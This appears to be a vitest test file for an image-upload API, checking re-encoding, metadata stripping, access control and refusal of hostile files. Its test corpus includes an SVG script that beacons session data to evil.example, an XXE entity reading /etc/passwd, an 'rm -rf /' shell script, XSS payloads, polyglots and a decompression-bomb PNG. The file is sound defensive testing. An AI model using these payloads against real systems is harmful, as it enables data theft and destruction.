import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import zlib from 'node:zlib';
import Fastify, { type FastifyInstance, type LightMyRequestResponse } from 'fastify';
import swagger from '@fastify/swagger';
import { jsonSchemaTransform, serializerCompiler, validatorCompiler } from 'fastify-type-provider-zod';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uploadSchema, type Upload, type UploadPage } from '@atelier/contracts';
import { createImaging } from '#src/adapters/imaging/imaging.ts';
import { createLocalKms } from '#src/adapters/kms/local-kms.ts';
import { createEncryptedStorage } from '#src/adapters/storage/encrypted-storage.ts';
import { createLocalStorage } from '#src/adapters/storage/local-storage.ts';
import { registerErrorHandler } from '#src/http/error-handler.ts';
import { PUBLIC_V1, STUDIO } from '#src/http/surfaces.ts';
import { AppError } from '#src/lib/errors.ts';
import { signUp, startTestServer, type TestServer } from '#test/support/harness.ts';
import { createUploadRepository } from './uploads.repository.ts';
import { registerUploadRoutes } from './uploads.routes.ts';
import { createUploadService, type UploadService } from './uploads.service.ts';

const MB = 1024 * 1024;

let server: TestServer;

/** The upload routes on a real service, database, encrypted storage and sharp, with their own storage directory. */
interface Studio {
  app: FastifyInstance;
  uploads: UploadService;
  dir: string;
  close(): Promise<void>;
}

async function startStudio(): Promise<Studio> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'atelier-uploads-'));
  const storage = createEncryptedStorage(createLocalStorage(dir), createLocalKms(crypto.randomBytes(32)));
  const uploads = createUploadService({ db: server.container.database.db, repository: createUploadRepository(server.container.database.db), storage, imaging: createImaging() });
  const app = Fastify({ bodyLimit: MB });
  app.setValidatorCompiler(validatorCompiler);
  app.setSerializerCompiler(serializerCompiler);
  app.removeContentTypeParser('text/plain'); // as app.ts does
  registerErrorHandler(app);
  await app.register(swagger, { openapi: { info: { title: 'test', version: '0' } }, hideUntagged: true, transform: jsonSchemaTransform });
  app.decorateRequest('actor', null);
  // The ONE substitution in this file: the test server's app is already `ready()` and cannot take these
  // routes, so this small app stands in for app.ts, and this hook for the auth hook (http/auth-hook.ts),
  // taking the user id from a header. Everything behind it (service, database, storage, sharp) is real.
  app.addHook('onRequest', async (request) => {
    const auth = request.routeOptions.config.auth;
    if (!auth || auth === 'public') return;
    const userId = request.headers['x-test-user'];
    if (typeof userId !== 'string') throw new AppError('unauthenticated', 'Sign in to continue.');
    request.actor = auth === 'apiKey' ? { kind: 'apiKey', userId, keyId: 'test' } : { kind: 'user', userId, sessionId: 'test' };
  });
  for (const surface of [STUDIO, PUBLIC_V1]) await registerUploadRoutes(app, { uploads, surface });
  await app.ready();
  return { app, uploads, dir, close: async () => void (await app.close(), fs.rmSync(dir, { recursive: true, force: true })) };
}

beforeAll(async () => {
  server = await startTestServer({ work: false });
});
afterAll(() => server?.close());

// ---------------------------------------------------------------------------------------------------
// Requests

interface Part {
  name: string;
  filename?: string;
  type?: string;
  data: Buffer | string;
}

function multipart(parts: Part[], boundary = `----atelier${crypto.randomBytes(8).toString('hex')}`): { payload: Buffer; contentType: string } {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    chunks.push(Buffer.from(`--${boundary}\r\ncontent-disposition: ${disposition}\r\n${p.type ? `content-type: ${p.type}\r\n` : ''}\r\n`));
    chunks.push(Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

const fileForm = (data: Buffer, filename = 'photo.png', type = 'image/png') => multipart([{ name: 'file', filename, type, data }]);

function post(studio: Studio, userId: string, body: { payload: Buffer | string | Readable; contentType?: string }, prefix = '/api'): Promise<LightMyRequestResponse> {
  return studio.app.inject({
    method: 'POST',
    url: `${prefix}/uploads`,
    headers: { 'x-test-user': userId, ...(body.contentType ? { 'content-type': body.contentType } : {}) },
    payload: body.payload,
  });
}
const upload = (studio: Studio, userId: string, data: Buffer, filename?: string, type?: string) => post(studio, userId, fileForm(data, filename, type));
const get = (studio: Studio, userId: string, url: string) => studio.app.inject({ method: 'GET', url, headers: { 'x-test-user': userId } });
const del = (studio: Studio, userId: string, url: string) => studio.app.inject({ method: 'DELETE', url, headers: { 'x-test-user': userId } });

const countUploads = async (userId: string) =>
  Number((await server.container.database.db.selectFrom('uploads').select((eb) => eb.fn.countAll<number>().as('n')).where('user_id', '=', userId).executeTakeFirstOrThrow()).n);
const filesIn = (dir: string) => fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((f) => f.isFile()).map((f) => path.join(f.parentPath, f.name));

// ---------------------------------------------------------------------------------------------------
// Files

function sample(width: number, height: number) {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g"><stop offset="0" stop-color="#1e3a8a"/><stop offset="1" stop-color="#f59e0b"/></linearGradient></defs>
    <rect width="100%" height="100%" fill="url(#g)"/><circle cx="${width / 2}" cy="${height / 2}" r="${Math.min(width, height) / 4}" fill="#10b981"/>
  </svg>`;
  return sharp(Buffer.from(svg));
}
const pngOf = (w: number, h: number) => sample(w, h).png().toBuffer();
const jpegOf = (w: number, h: number) => sample(w, h).jpeg({ quality: 90 }).toBuffer();
const webpOf = (w: number, h: number) => sample(w, h).webp({ quality: 90 }).toBuffer();

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/**
 * A real 1-bit greyscale PNG of the given size, all black: a few KB on disk that decodes to width×height
 * bytes (a decompression bomb when large). Built by hand so the test never allocates the pixels itself.
 */
function blackPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc((1 + Math.ceil(width / 8)) * height); // each row: filter byte 0, then zeros
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk('IHDR', ihdr), pngChunk('IDAT', zlib.deflateSync(raw, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

/** The offset of a PNG chunk's type field. */
const chunkAt = (png: Buffer, type: string) => png.indexOf(Buffer.from(type, 'latin1'));

function withCorruptIdatCrc(png: Buffer): Buffer {
  const bad = Buffer.from(png);
  const at = chunkAt(bad, 'IDAT');
  const crcAt = at + 4 + bad.readUInt32BE(at - 4);
  bad[crcAt] = bad[crcAt]! ^ 0xff;
  return bad;
}

/** Damaged deflate data inside an IDAT whose CRC is recomputed, so only the decoder can notice. */
function withCorruptIdatData(png: Buffer): Buffer {
  const at = chunkAt(png, 'IDAT');
  const length = png.readUInt32BE(at - 4);
  const data = Buffer.from(png.subarray(at + 4, at + 4 + length));
  for (let i = 2; i < data.length; i += 7) data[i] = 0xff - data[i]!;
  return Buffer.concat([png.subarray(0, at - 4), pngChunk('IDAT', data), png.subarray(at + 8 + length)]);
}

/** A baseline JPEG whose frame header (SOF0) claims another size than its data holds. */
function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  const sof = out.indexOf(Buffer.from([0xff, 0xc0]));
  out.writeUInt16BE(height, sof + 5);
  out.writeUInt16BE(width, sof + 7);
  return out;
}

/** A lossy WebP whose VP8 frame header claims another size (14 bits each). */
function webpClaiming(webp: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(webp);
  out.writeUInt16LE(width, 26);
  out.writeUInt16LE(height, 28);
  return out;
}

function bmp(): Buffer {
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + 16, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(2, 18);
  header.writeInt32LE(2, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  return Buffer.concat([header, Buffer.alloc(16, 0x7f)]);
}

function elf(): Buffer {
  const b = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).copy(b);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  return b;
}

function pe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84);
  return b;
}

function zip(): Buffer {
  const name = Buffer.from('evil.html');
  const content = Buffer.from('<script>alert(document.cookie)</script>');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt32LE(zlib.crc32(content) >>> 0, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return Buffer.concat([local, name, content, end]);
}

const SVG_WITH_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script><rect width="10" height="10"/></svg>';
const SVG_XXE = '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&x;</text></svg>';

// ---------------------------------------------------------------------------------------------------

describe('uploading PNG, JPEG and WebP', () => {
  let studio: Studio;
  let owner: string;
  let other: string;
  beforeAll(async () => {
    studio = await startStudio();
    owner = (await signUp(server.app)).userId;
    other = (await signUp(server.app)).userId;
  });
  afterAll(() => studio?.close());

  it('stores a PNG re-encoded and encrypted, serves it and its thumbnail to the owner with safe headers', async () => {
    const res = await upload(studio, owner, await pngOf(640, 480), 'holiday.png', 'image/png');
    expect(res.statusCode).toBe(201);
    const body = uploadSchema.parse(res.json());
    expect(body).toMatchObject({ width: 640, height: 480, format: 'png', url: `/api/uploads/${body.id}`, thumbnail_url: `/api/uploads/${body.id}/thumbnail` });

    const original = await get(studio, owner, body.url);
    expect(original.statusCode).toBe(200);
    expect(original.headers).toMatchObject({
      'content-type': 'image/png',
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, max-age=3600',
      'content-security-policy': "default-src 'none'; sandbox",
    });
    expect(original.rawPayload.length).toBe(body.bytes);
    expect(await sharp(original.rawPayload).metadata()).toMatchObject({ format: 'png', width: 640, height: 480 });

    const thumb = await get(studio, owner, body.thumbnail_url);
    expect(thumb.headers['content-type']).toBe('image/webp');
    expect(await sharp(thumb.rawPayload).metadata()).toMatchObject({ format: 'webp', width: 256, height: 192 });

    // At rest: exactly the two objects under the upload's generated keys, both ciphertext.
    const files = filesIn(studio.dir).map((f) => path.relative(studio.dir, f)).sort();
    expect(files).toEqual([`uploads/${body.id}/original`, `uploads/${body.id}/thumbnail`]);
    for (const f of files) {
      const raw = fs.readFileSync(path.join(studio.dir, f));
      expect(raw.subarray(0, 4).toString()).toBe('ATL1');
      expect(raw.includes(Buffer.from('IHDR'))).toBe(false);
      expect(raw.includes(Buffer.from('WEBP'))).toBe(false);
    }
  });

  it('strips EXIF (camera, GPS) from a JPEG, keeping it upright', async () => {
    const photo = await sample(300, 200)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExifMerge({
        IFD0: { Make: 'Canon', Model: 'EOS R5' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 0/1' },
      })
      .toBuffer();
    const exif = (await sharp(photo).metadata()).exif!;
    expect(exif.includes(Buffer.from([0x25, 0x88]))).toBe(true); // the GPSInfo tag (0x8825, little-endian) is there to strip

    const res = await upload(studio, owner, photo, 'IMG_0001.JPG', 'image/jpeg');
    expect(res.statusCode).toBe(201);
    const body = res.json<Upload>();
    expect(body).toMatchObject({ format: 'jpeg', width: 200, height: 300 });

    const stored = (await get(studio, owner, body.url)).rawPayload;
    const meta = await sharp(stored).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 200, height: 300 });
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.icc).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(stored.includes(Buffer.from('Exif\0\0'))).toBe(false);
    expect(stored.includes(Buffer.from('Canon'))).toBe(false);
  });

  it('accepts WebP, and answers the /v1 surface with /v1 links', async () => {
    const res = await post(studio, owner, fileForm(await webpOf(320, 320), 'x.webp', 'image/webp'), '/v1');
    expect(res.statusCode).toBe(201);
    const body = res.json<Upload>();
    expect(body).toMatchObject({ format: 'webp', width: 320, height: 320, url: `/v1/uploads/${body.id}` });
    const stored = await get(studio, owner, body.url);
    expect(stored.headers['content-type']).toBe('image/webp');
    expect((await sharp(stored.rawPayload).metadata()).format).toBe('webp');
  });

  it('recognises the format by content, whatever the file is called or declared as', async () => {
    const res = await upload(studio, owner, await jpegOf(64, 64), 'picture.gif', 'application/octet-stream');
    expect(res.statusCode).toBe(201);
    expect(res.json<Upload>().format).toBe('jpeg');
  });

  it('re-encodes polyglots: a PNG with a ZIP appended, a JPEG with HTML appended', async () => {
    const pngZip = Buffer.concat([await pngOf(100, 80), zip()]);
    const jpegHtml = Buffer.concat([await jpegOf(100, 80), Buffer.from('<html><body><script>alert(document.domain)</script></body></html>')]);
    for (const [file, type, marker] of [
      [pngZip, 'image/png', Buffer.from('PK\x03\x04', 'latin1')],
      [jpegHtml, 'image/jpeg', Buffer.from('<script')],
    ] as const) {
      const res = await upload(studio, owner, file, 'poly', type);
      expect(res.statusCode).toBe(201);
      const stored = (await get(studio, owner, res.json<Upload>().url)).rawPayload;
      expect(stored.equals(file)).toBe(false);
      expect(stored.includes(marker)).toBe(false);
      expect(stored.includes(Buffer.from('alert'))).toBe(false);
    }
  });

  it('accepts a file just under the byte limit, read whole', async () => {
    // Noise does not compress: 2400×2400 RGB is 17.3 MB of pixels and about as much PNG.
    const noise = await sharp(crypto.randomBytes(2400 * 2400 * 3), { raw: { width: 2400, height: 2400, channels: 3 } }).png({ compressionLevel: 1 }).toBuffer();
    expect(noise.length).toBeGreaterThan(16 * MB);
    expect(noise.length).toBeLessThan(20 * MB);
    const res = await upload(studio, owner, noise);
    expect(res.statusCode).toBe(201);
    expect(res.json<Upload>()).toMatchObject({ width: 2400, height: 2400 });
  });

  it('handles several uploads at once', async () => {
    const results = await Promise.all(Array.from({ length: 6 }, async (_, i) => upload(studio, owner, await pngOf(200 + i, 100))));
    expect(results.map((r) => r.statusCode)).toEqual(Array(6).fill(201));
    expect(new Set(results.map((r) => r.json<Upload>().id)).size).toBe(6);
  });

  it('is visible to its owner only: anyone else gets 404 for the files, the list and delete', async () => {
    const mine = (await upload(studio, owner, await pngOf(50, 50))).json<Upload>();
    for (const url of [mine.url, mine.thumbnail_url, mine.url.replace('/api/', '/v1/')]) expect((await get(studio, other, url)).statusCode).toBe(404);
    expect((await del(studio, other, mine.url)).statusCode).toBe(404);
    expect((await get(studio, other, '/api/uploads')).json<UploadPage>().data).toEqual([]);
    await expect(studio.uploads.readUpload(other, mine.id)).resolves.toBeUndefined();

    // Still there for its owner, and readable by the generation flow.
    expect((await get(studio, owner, mine.url)).statusCode).toBe(200);
    const ref = await studio.uploads.readUpload(owner, mine.id);
    expect(ref).toMatchObject({ format: 'png', width: 50, height: 50 });
    expect((await sharp(ref!.bytes).metadata()).width).toBe(50);
  });

  it('deletes the row and both files', async () => {
    const doomed = (await upload(studio, owner, await pngOf(60, 40))).json<Upload>();
    const dir = path.join(studio.dir, 'uploads', doomed.id);
    expect(filesIn(dir)).toHaveLength(2);
    const res = await del(studio, owner, doomed.url);
    expect(res.statusCode).toBe(204);
    expect(filesIn(dir)).toEqual([]);
    expect((await get(studio, owner, doomed.url)).statusCode).toBe(404);
    expect((await get(studio, owner, doomed.thumbnail_url)).statusCode).toBe(404);
    expect((await del(studio, owner, doomed.url)).statusCode).toBe(404);
    await expect(studio.uploads.readUpload(owner, doomed.id)).resolves.toBeUndefined();
  });

  it('lists newest first with a keyset cursor', async () => {
    const user = (await signUp(server.app)).userId;
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) ids.push((await upload(studio, user, await pngOf(40 + i, 40))).json<Upload>().id);
    const page = async (cursor?: string) => (await get(studio, user, `/api/uploads?limit=2${cursor ? `&cursor=${cursor}` : ''}`)).json<UploadPage>();
    const p1 = await page();
    const p2 = await page(p1.next_cursor!);
    const p3 = await page(p2.next_cursor!);
    expect([...p1.data, ...p2.data, ...p3.data].map((u) => u.id)).toEqual([...ids].reverse());
    expect([p1.data.length, p2.data.length, p3.data.length]).toEqual([2, 2, 1]);
    expect(p3.next_cursor).toBeNull();
    expect(p1.data[0]).toMatchObject({ width: 44, url: `/api/uploads/${ids[4]}` });
    expect((await get(studio, user, '/api/uploads?cursor=zzz')).statusCode).toBe(400);
    expect((await get(studio, user, '/api/uploads/not-a-uuid')).statusCode).toBe(400);
  });

  it('keeps nothing when the row cannot be written', async () => {
    const isolated = await startStudio();
    try {
      await expect(isolated.uploads.create('no-such-user', await pngOf(30, 30))).rejects.toThrow();
      expect(filesIn(isolated.dir)).toEqual([]);
    } finally {
      await isolated.close();
    }
  });

  it('documents the upload as a multipart form in the OpenAPI document', () => {
    const doc = studio.app.swagger() as { paths: Record<string, { post?: { requestBody?: { content?: Record<string, { schema?: { properties?: Record<string, { format?: string }> } }> } } }> };
    const content = doc.paths['/v1/uploads']?.post?.requestBody?.content;
    expect(Object.keys(content ?? {})).toEqual(['multipart/form-data']);
    expect(content?.['multipart/form-data']?.schema?.properties?.file?.format).toBe('binary');
  });
});

describe('hostile and malformed uploads are refused, and leave nothing behind', () => {
  let studio: Studio;
  let user: string;
  beforeAll(async () => {
    studio = await startStudio();
    user = (await signUp(server.app)).userId;
  });
  afterAll(() => studio?.close());

  type Case = [name: string, request: () => Promise<{ payload: Buffer | string | Readable; contentType?: string }>, status: number, message: RegExp];
  const file = (make: () => Buffer | Promise<Buffer>, filename = 'image.png', type = 'image/png') => async () => fileForm(await make(), filename, type);
  const cut = (make: () => Promise<Buffer>, at: (length: number) => number) => async () => {
    const whole = await make();
    return whole.subarray(0, at(whole.length));
  };
  const DAMAGED = /image is damaged or incomplete/;

  const cases: Case[] = [
    // Not an image we accept, named when recognised, whatever the name or declared type.
    ['SVG with a script', file(() => Buffer.from(SVG_WITH_SCRIPT), 'logo.svg', 'image/svg+xml'), 415, /SVG images are not accepted/],
    ['SVG disguised as a PNG', file(() => Buffer.from(SVG_WITH_SCRIPT), 'photo.png', 'image/png'), 415, /SVG images are not accepted/],
    ['SVG with an XML prolog and an external entity', file(() => Buffer.from(SVG_XXE)), 415, /SVG images are not accepted/],
    ['SVG after a byte-order mark and a comment', file(() => Buffer.from(`\uFEFF\n  <!-- hi -->${SVG_WITH_SCRIPT}`)), 415, /SVG images are not accepted/],
    ['GIF', file(() => sample(16, 16).gif().toBuffer(), 'anim.gif', 'image/gif'), 415, /GIF images are not accepted/],
    ['TIFF', file(() => sample(16, 16).tiff().toBuffer()), 415, /TIFF images are not accepted/],
    ['BMP', file(bmp), 415, /BMP images are not accepted/],
    ['AVIF', file(() => sample(16, 16).avif().toBuffer()), 415, /HEIC\/AVIF images are not accepted/],
    ['PDF', file(() => Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'), 'doc.png'), 415, /PDF documents are not accepted/],
    ['ELF executable labelled image/png', file(elf), 415, /Linux executables \(ELF\) are not accepted/],
    ['PE executable labelled image/png', file(pe, 'setup.png'), 415, /Windows executables \(PE\) are not accepted/],
    ['HTML document', file(() => Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'), 'x.html', 'text/html'), 415, /HTML documents are not accepted/],
    ['bare script tag labelled image/jpeg', file(() => Buffer.from('<script>alert(1)</script>'), 'x.jpg', 'image/jpeg'), 415, /HTML documents are not accepted/],
    ['ZIP archive', file(zip), 415, /ZIP archives are not accepted/],
    ['gzip archive', file(() => zlib.gzipSync(Buffer.from('hello'))), 415, /gzip archives are not accepted/],
    ['shell script', file(() => Buffer.from('#!/bin/sh\nrm -rf /\n')), 415, /Scripts are not accepted/],
    ['plain text', file(() => Buffer.from('just some words, not a picture')), 415, /not a PNG, JPEG or WebP image/],
    ['empty file', file(() => Buffer.alloc(0)), 415, /The file is empty/],
    ['one byte', file(() => Buffer.from([0x89])), 415, /not a PNG, JPEG or WebP image/],
    // Truncated and corrupt: the signature is right, the data is not.
    ['PNG signature only', file(() => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])), 415, /PNG file is truncated/],
    ['PNG cut after its header', file(cut(() => pngOf(400, 300), () => 33)), 415, /PNG file is truncated/],
    ['PNG cut in half', file(cut(() => pngOf(400, 300), (n) => n / 2)), 415, /PNG file is truncated/],
    ['PNG missing its last chunk', file(cut(() => pngOf(400, 300), (n) => n - 12)), 415, /PNG file is truncated/],
    ['PNG with a bad IDAT checksum', file(async () => withCorruptIdatCrc(await pngOf(100, 80))), 415, DAMAGED],
    ['PNG with damaged pixel data and a valid checksum', file(async () => withCorruptIdatData(await pngOf(100, 80))), 415, DAMAGED],
    ['JPEG signature only', file(() => Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'a.jpg', 'image/jpeg'), 415, DAMAGED],
    ['JPEG cut in half', file(cut(() => jpegOf(400, 300), (n) => n / 2), 'a.jpg', 'image/jpeg'), 415, DAMAGED],
    ['JPEG missing its end marker', file(cut(() => jpegOf(400, 300), (n) => n - 2), 'a.jpg', 'image/jpeg'), 415, DAMAGED],
    ['WebP container header only', file(cut(() => webpOf(400, 300), () => 12), 'a.webp', 'image/webp'), 415, DAMAGED],
    ['WebP cut in half', file(cut(() => webpOf(400, 300), (n) => n / 2), 'a.webp', 'image/webp'), 415, DAMAGED],
    ['WebP missing its last byte', file(cut(() => webpOf(400, 300), (n) => n - 1), 'a.webp', 'image/webp'), 415, DAMAGED],
    // Too many pixels, told from the header alone.
    ['PNG bomb: 20000×20000 in a few KB', file(() => blackPng(20_000, 20_000)), 413, /20000×20000 pixels \(400 MP\)/],
    ['JPEG header claiming 30000×30000', file(async () => jpegClaiming(await jpegOf(64, 64), 30_000, 30_000), 'a.jpg', 'image/jpeg'), 413, /30000×30000 pixels/],
    ['WebP header claiming 16000×16000', file(async () => webpClaiming(await webpOf(64, 48), 16_000, 16_000), 'a.webp', 'image/webp'), 413, /16000×16000 pixels/],
    ['9000×10: too wide', file(() => blackPng(9000, 10)), 413, /9000×10 pixels.*at most 8192 pixels per side/],
    ['8000×6000: sides fine, 48 MP too many', file(() => blackPng(8000, 6000)), 413, /8000×6000 pixels \(48 MP\); .*40 MP/],
    // Too many bytes: announced, or streamed without a length.
    ['21 MB body', async () => fileForm(Buffer.alloc(21 * MB, 0x41)), 413, /at most 20 MB/],
    ['21 MB streamed without a Content-Length', async () => {
      const form = fileForm(Buffer.alloc(21 * MB, 0x41));
      return { payload: Readable.from(chunksOf(form.payload, 64 * 1024)), contentType: form.contentType };
    }, 413, /at most 20 MB/],
    // The form itself is wrong.
    ['two files in one request', async () => multipart([{ name: 'file', filename: 'a.png', type: 'image/png', data: await pngOf(10, 10) }, { name: 'file', filename: 'b.png', type: 'image/png', data: await pngOf(10, 10) }]), 400, /exactly one file/],
    ['no file at all', async () => multipart([]), 400, /No file in the request/],
    ['the file in the wrong field', async () => multipart([{ name: 'image', filename: 'a.png', type: 'image/png', data: await pngOf(10, 10) }]), 400, /form field "file" \(got a file in "image"\)/],
    ['text instead of a file', async () => multipart([{ name: 'file', data: 'hello' }]), 400, /"file" must be a file/],
    ['an extra field beside the file', async () => multipart([{ name: 'file', filename: 'a.png', type: 'image/png', data: await pngOf(10, 10) }, { name: 'caption', data: 'hi' }]), 400, /Unexpected form field "caption"/],
    ['multipart without a boundary', async () => ({ payload: 'whatever', contentType: 'multipart/form-data' }), 400, /malformed/],
    ['multipart cut off mid-file', async () => {
      const form = fileForm(await pngOf(100, 100));
      return { payload: form.payload.subarray(0, form.payload.length / 2), contentType: form.contentType };
    }, 400, /malformed|ended before/],
    ['text/plain body', async () => ({ payload: 'a cat in a hat', contentType: 'text/plain' }), 415, /multipart\/form-data .*got text\/plain/],
    ['JSON body', async () => ({ payload: JSON.stringify({ file: 'iVBORw0KGgo=' }), contentType: 'application/json' }), 415, /multipart\/form-data .*got application\/json/],
    ['raw PNG body with an image content type', async () => ({ payload: await pngOf(10, 10), contentType: 'image/png' }), 415, /got image\/png/],
    ['no content type', async () => ({ payload: 'x' }), 415, /no Content-Type/],
  ];

  it('has a corpus of at least 30 hostile or malformed files', () => expect(cases.length).toBeGreaterThanOrEqual(30));

  it.each(cases.map(([name, request, status, message]) => ({ name, request, status, message })))('$name → $status', async ({ request, status, message }) => {
    const res = await post(studio, user, await request());
    expect(res.statusCode).toBe(status);
    const { error } = res.json<{ error: { code: string; message: string } }>();
    expect(error.code).toBe({ 400: 'validation_failed', 413: 'payload_too_large', 415: 'unsupported_media_type' }[status]);
    expect(error.message).toMatch(message);
    expect(await countUploads(user)).toBe(0);
    expect(filesIn(studio.dir)).toEqual([]);
  });

  it('stops reading a streamed body at the byte limit instead of reading it to the end', async () => {
    const form = fileForm(Buffer.alloc(60 * MB, 0x41));
    let pulled = 0;
    // Arrives over several turns of the event loop, as from a socket (a synchronous stream would be
    // drained in one go before anything could react).
    const trickle = Readable.from(
      (async function* () {
        for (const chunk of chunksOf(form.payload, 256 * 1024)) {
          pulled += chunk.length;
          yield chunk;
          await new Promise((resolve) => setImmediate(resolve));
        }
      })(),
    );
    const res = await post(studio, user, { payload: trickle, contentType: form.contentType });
    expect(res.statusCode).toBe(413);
    expect(res.headers.connection).toBe('close');
    expect(pulled).toBeGreaterThan(20 * MB);
    expect(pulled).toBeLessThan(24 * MB);
  });

  it('over a real connection, answers 413 and closes it after reading about 20 MB of a 200 MB body', async () => {
    const address = await studio.app.listen({ port: 0, host: '127.0.0.1' });
    const boundary = 'b0undary';
    const attempt = () => new Promise<{ status: number; body: string; sent: number; connection: string | undefined }>((resolve, reject) => {
      const req = http.request(`${address}/api/uploads`, {
        method: 'POST',
        headers: { 'x-test-user': user, 'content-type': `multipart/form-data; boundary=${boundary}`, 'transfer-encoding': 'chunked' },
      });
      let sent = 0;
      let answered = false;
      req.on('response', (res) => {
        answered = true;
        let body = '';
        res.on('data', (d: Buffer) => (body += d.toString()));
        res.on('end', () => resolve({ status: res.statusCode!, body, sent, connection: res.headers.connection }));
      });
      req.on('error', (error) => (answered ? undefined : reject(error)));
      req.write(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n`);
      const chunk = Buffer.alloc(256 * 1024, 0x41);
      const pump = () => {
        while (!answered && sent < 200 * MB) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once('drain', pump);
        }
        if (!answered) req.end();
      };
      pump();
    });
    // The server answers and closes while the client is still sending; on a loaded machine the client's
    // next write can hit the closed socket (EPIPE/ECONNRESET) before it has read the answer. That race is
    // TCP teardown, not the server misbehaving, so such an attempt is tried again (at most twice).
    let result: Awaited<ReturnType<typeof attempt>> | undefined;
    for (let tries = 0; !result; tries++) {
      try {
        result = await attempt();
      } catch (error) {
        const code = (error as NodeJS.ErrnoException).code;
        if (tries >= 2 || (code !== 'EPIPE' && code !== 'ECONNRESET')) throw error;
      }
    }
    expect(result.status).toBe(413);
    expect(result.body).toMatch(/at most 20 MB/);
    expect(result.connection).toBe('close');
    // The client stops as soon as the answer arrives; socket buffers account for the bytes past 20 MB.
    expect(result.sent).toBeLessThan(60 * MB);
  });

  it('refuses a decompression bomb from its header, without the memory its pixels would take', async () => {
    const bomb = fileForm(blackPng(20_000, 20_000)); // 400 MP: 400 MB as 8-bit grey, 1.6 GB as RGBA
    expect(bomb.payload.length).toBeLessThan(200 * 1024);
    const before = process.memoryUsage().rss;
    for (let i = 0; i < 3; i++) expect((await post(studio, user, bomb)).statusCode).toBe(413);
    // A sanity check, not a benchmark: decoding even one copy would add at least 400 MB.
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * MB);
  });
});

function* chunksOf(buffer: Buffer, size: number): Generator<Buffer> {
  for (let at = 0; at < buffer.length; at += size) yield buffer.subarray(at, at + size);
}
